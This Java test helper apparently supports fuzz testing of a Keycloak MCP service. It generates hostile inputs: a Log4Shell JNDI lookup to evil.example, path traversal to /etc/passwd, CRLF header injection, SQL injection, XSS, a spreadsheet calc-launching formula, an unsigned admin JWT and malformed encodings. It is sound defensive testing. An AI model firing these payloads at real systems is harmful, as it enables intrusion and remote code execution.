package dev.keycloakmcp.itest.attack;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Texts that nobody should send. */
final class HostileText {

    private static final int LONG = 6000;
    private static final int VERY_LONG = 30_000;

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "a\u0000b",
            "\r\nSet-Cookie: a=b",
            "\u202egpj",
            "\u0441rm",
            "\ud83d\ude00",
            "../../../etc/passwd",
            "..%2f..%2f",
            "${jndi:ldap://evil.example/a}",
            "${env.HOME}",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "' or '1'='1",
            "=cmd|' /C calc'!A0",
            "*",
            "%",
            "null",
            "undefined",
            "-1",
            "99999999999999999999",
            "1e400",
            "NaN",
            "true",
            "[]",
            "{}",
            "javascript:alert(1)",
            "https://evil.example/",
            "https://crm.example.com/mcp/",
            "HTTPS://CRM.EXAMPLE.COM:443/mcp",
            "https://crm.example.com/mcp#x",
            "https://user@crm.example.com/mcp",
            "https://crm.example.com%00.evil.example/mcp",
            "http://[::1",
            "urn:ietf:params:oauth:token-type:access_token",
            "urn:ietf:params:oauth:token-type:jwt",
            "urn:ietf:params:oauth:token-type:id_token",
            "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
            "eyJhbGciOiJSUzI1NiJ9.e30.AA",
            "a.b.c",
            "..",
            "admin",
            "account",
            "openid offline_access crm:read crm:write billing:read",
            "\u00e4\u00f6\u00fc");

    private HostileText() {}

    static String any(Random random) {
        return switch (random.nextInt(24)) {
            case 0 -> "a".repeat(LONG);
            case 1 -> words(random.nextInt(2500));
            case 2 -> random.nextInt(10) == 0 ? words(VERY_LONG) : "x";
            case 3 -> "[".repeat(random.nextInt(3000));
            case 4 -> noise(random);
            default -> TEXTS.get(random.nextInt(TEXTS.size()));
        };
    }

    private static String words(int number) {
        return IntStream.range(0, number)
                .mapToObj(word -> Integer.toString(word, Character.MAX_RADIX))
                .collect(Collectors.joining(" "));
    }

    private static String noise(Random random) {
        StringBuilder text = new StringBuilder();
        IntStream.range(0, random.nextInt(80)).forEach(at -> text.append((char) random.nextInt(0xd800)));
        return text.toString();
    }

    /** For a URI or a form, sometimes in bytes that are no UTF-8. */
    static String encoded(Random random, String text) {
        return switch (random.nextInt(60)) {
            case 0 -> "%ff%fe";
            case 1 -> "%c0%ae";
            case 2 -> "%00" + URLEncoder.encode(text, StandardCharsets.UTF_8);
            default -> URLEncoder.encode(text, StandardCharsets.UTF_8);
        };
    }

    /** Encoded, and short enough for the line of a request. */
    static String brief(Random random, int most) {
        return cut(encoded(random, any(random)), most);
    }

    /** Cut, but not within an escape. */
    static String cut(String encoded, int most) {
        return encoded.length() <= most ? encoded : encoded.substring(0, most).replaceFirst("%.?$", "");
    }

    static <T> T pick(Random random, List<T> from) {
        return from.get(random.nextInt(from.size()));
    }
}
